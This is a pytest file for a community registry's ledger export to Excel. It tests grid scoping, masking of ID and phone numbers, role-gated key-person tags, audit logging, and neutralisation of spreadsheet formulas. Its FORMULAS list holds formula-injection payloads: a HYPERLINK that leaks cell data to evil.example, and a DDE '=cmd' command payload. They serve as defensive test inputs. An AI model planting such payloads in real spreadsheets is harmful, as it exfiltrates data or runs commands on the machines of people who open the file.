"""Exporting ledgers: an .xlsx of the actor's grids only, personal data masked as in API
responses, key-person groups only for roles that may see them, audited."""

from __future__ import annotations

import io
from datetime import UTC, datetime, time, timedelta

import openpyxl
import pytest

from tests.conftest import assert_error_shape
from tests.fixtures.areas import G111, G112, G211
from tests.fixtures.http import at, audit_rows
from tests.fixtures.ledgers import csv_bytes, id_number, masked, upload

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ID_A, ID_B, ID_C, ID_D = (id_number(i, "19900101") for i in (11, 12, 13, 14))


def sheet_rows(response) -> list[dict]:
    """The export's rows as {header: value}, checking the workbook on the way."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == XLSX
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    [sheet] = workbook.worksheets
    rows = list(sheet.iter_rows(values_only=True))
    header, data = rows[0], rows[1:]
    assert int(response.headers["X-Row-Count"]) == len(data)
    return [dict(zip(header, row, strict=True)) for row in data]


def all_cells(rows: list[dict]) -> str:
    return "\n".join(f"{k}={v}" for row in rows for k, v in row.items())


@pytest.fixture
def register(staff, api):
    """People in G111 and G112 (imported by the community's staff), one of them tagged as
    elderly living alone and as a community-corrections subject (by the grid chief), and a
    person of another community (G211)."""
    staff.ok(upload(staff, "persons", csv_bytes([
        ["姓名", "身份证号", "手机号码", "户号", "与户主关系", "人口类型", "网格编码"],
        ["王建国", ID_A, "13812345678", "H1", "户主", "户籍人口", G111],
        ["李秀英", ID_B, "", "H1", "配偶", "户籍人口", G111],
        ["张伟", ID_C, "13900001111", "H2", "户主", "流动人口", G112]])), 201)
    chief = api("grid_chief", G111)
    tagged = chief.person(name="赵老伯", id_number=ID_D, location=at(G111),
                          tags=[{"tag": "elderly_alone"}, {"tag": "community_correction"}])
    api("grid_worker", G211).person(name="外社区", location=at(G211))
    return {"chief": chief, "tagged": tagged}


def test_the_export_is_an_xlsx_of_the_actors_grids_with_masked_personal_data(
        staff, register, db_session, tree):
    rows = sheet_rows(staff.get("/ledgers/export?kind=persons"))
    by_name = {r["姓名"]: r for r in rows}
    assert set(by_name) == {"王建国", "李秀英", "张伟", "赵老伯"}  # not 外社区 (G211)
    wang = by_name["王建国"]
    assert (wang["身份证号"], wang["联系电话"]) == (masked(ID_A), "138****5678")
    assert (wang["性别"], wang["户号"], wang["与户主关系"], wang["人口类型"]) == (
        "男", "H1", "户主", "户籍人口")
    assert (wang["网格编码"], wang["来源"]) == (G111, "台账导入")
    assert by_name["张伟"]["人口类型"] == "流动人口" and by_name["张伟"]["网格编码"] == G112
    # exactly as the API masks them
    api_view = {p["name"]: p for p in staff.ok(staff.get("/persons"))}
    for name, row in by_name.items():
        assert row["身份证号"] == api_view[name]["id_number"]
        assert row["联系电话"] == api_view[name]["phone"]
    text = all_cells(rows)
    for clear in (ID_A, ID_B, ID_C, ID_D, "13812345678", "13900001111"):
        assert clear not in text
    # community staff may not see key-person groups: no column, no value
    assert by_name["赵老伯"]["关爱对象"] == "独居老人"
    assert "重点人员" not in rows[0] and "社区矫正" not in text and "community" not in text
    [row] = audit_rows(db_session, action="ledger_exported")
    assert row.actor_id == staff.user.id
    assert row.changes == {"kind": "persons", "area_id": None, "area_code": None, "rows": 4,
                           "include_ended": False, "key_tags": False}


def test_a_grid_chief_exports_a_grid_with_its_key_person_groups(register, db_session, tree):
    chief = register["chief"]
    rows = sheet_rows(chief.get(f"/ledgers/export?kind=persons&area_id={tree[G111]}"))
    by_name = {r["姓名"]: r for r in rows}
    assert set(by_name) == {"王建国", "李秀英", "赵老伯"}
    assert by_name["赵老伯"]["重点人员"] == "社区矫正"
    assert by_name["赵老伯"]["身份证号"] == masked(ID_D)
    [row] = audit_rows(db_session, action="ledger_exported")
    assert (row.changes["area_code"], row.changes["rows"]) == (G111, 3)


def test_an_area_outside_the_scope_is_a_404_and_a_worker_gets_a_403(staff, worker, tree):
    assert_error_shape(staff.get(f"/ledgers/export?kind=persons&area_id={tree[G211]}"), 404)
    body = assert_error_shape(worker.get("/ledgers/export?kind=persons"), 403)
    assert body["required"] == "registry:export"


def test_every_kind_exports_with_the_headers_an_import_accepts(staff, register, tree):
    staff.building(name="3幢", leader_phone="13612345678", location=at(G112))
    staff.organisation(uscc="91110000600037341L", risk_flags=["fire_safety_key"])
    households = {r["户号"]: r for r in sheet_rows(staff.get("/ledgers/export?kind=households"))}
    assert households["H1"]["户主姓名"] == "王建国" and households["H1"]["现有人数"] == 2
    assert households["H1"]["户类型"] == "户籍户"
    [building] = sheet_rows(staff.get(f"/ledgers/export?kind=buildings&area_id={tree[G112]}"))
    assert building["楼栋长电话"] == "136****5678" and building["用途"] == "住宅"
    assert building["经度"] == pytest.approx(at(G112)["lon"])
    [org] = sheet_rows(staff.get("/ledgers/export?kind=organisations"))
    assert (org["统一社会信用代码"], org["风险标识"]) == ("91110000600037341L", "消防安全重点")
    # and back: an import understands every column of an export (its rows are refused: the
    # phone is masked, and the building is already registered)
    response = staff.get("/ledgers/export?kind=buildings")
    body = assert_error_shape(upload(staff, "buildings", response.get_data(), "楼栋.xlsx"), 422)
    assert body["report"]["ignored_columns"] == ["网格名称", "来源"]
    assert len(body["report"]["columns"]) == len(building) - 2
    [error] = body["report"]["errors"]
    assert (error["row"], error["column"]) == (2, "楼栋长电话")


def test_the_file_is_named_after_the_day_in_beijing(staff, monkeypatch):
    """At 00:30 Beijing the UTC date is still yesterday's; the file carries the user's day."""
    from server import clock

    pinned = datetime.combine(datetime.now(UTC).date(), time(16, 30), UTC)  # 00:30 Beijing
    monkeypatch.setattr(clock, "now", lambda: pinned)
    response = staff.get("/ledgers/export?kind=persons")
    beijing_day = (pinned.date() + timedelta(days=1)).strftime("%Y%m%d")
    assert f"persons-all-{beijing_day}.xlsx" in response.headers["Content-Disposition"]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点我")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1,1)"]


def test_no_user_data_becomes_a_formula_in_the_export(staff):
    """Names and 户号 that a spreadsheet would read as formulas are written as text with a
    leading quote (OWASP); nothing in the workbook is a formula."""
    staff.ok(upload(staff, "persons", csv_bytes(
        [["姓名", "身份证号", "户号", "与户主关系", "网格编码"]]
        + [[name, id_number(40 + i, "19900101"), f"=1+{i}", "户主", G111]
           for i, name in enumerate(FORMULAS)])), 201)
    response = staff.get("/ledgers/export?kind=persons")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in sheet[1]]
    names = [row[header.index("姓名")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted("'" + name for name in FORMULAS)
    households = {row[header.index("户号")]
                  for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert households == {f"'=1+{i}" for i in range(len(FORMULAS))}


def test_the_cell_helper_neutralises_every_formula_prefix():
    from openpyxl import Workbook

    from server import xlsx

    sheet = Workbook(write_only=True).create_sheet()
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"):
        cell = xlsx.safe_cell(sheet, text)
        assert (cell.value, cell.data_type) == ("'" + text, "s")
    assert xlsx.safe_cell(sheet, "王\x01建国").value == "王建国"  # openpyxl would raise
    assert xlsx.safe_cell(sheet, -5).value == -5 and xlsx.safe_cell(sheet, "3-1").value == "3-1"
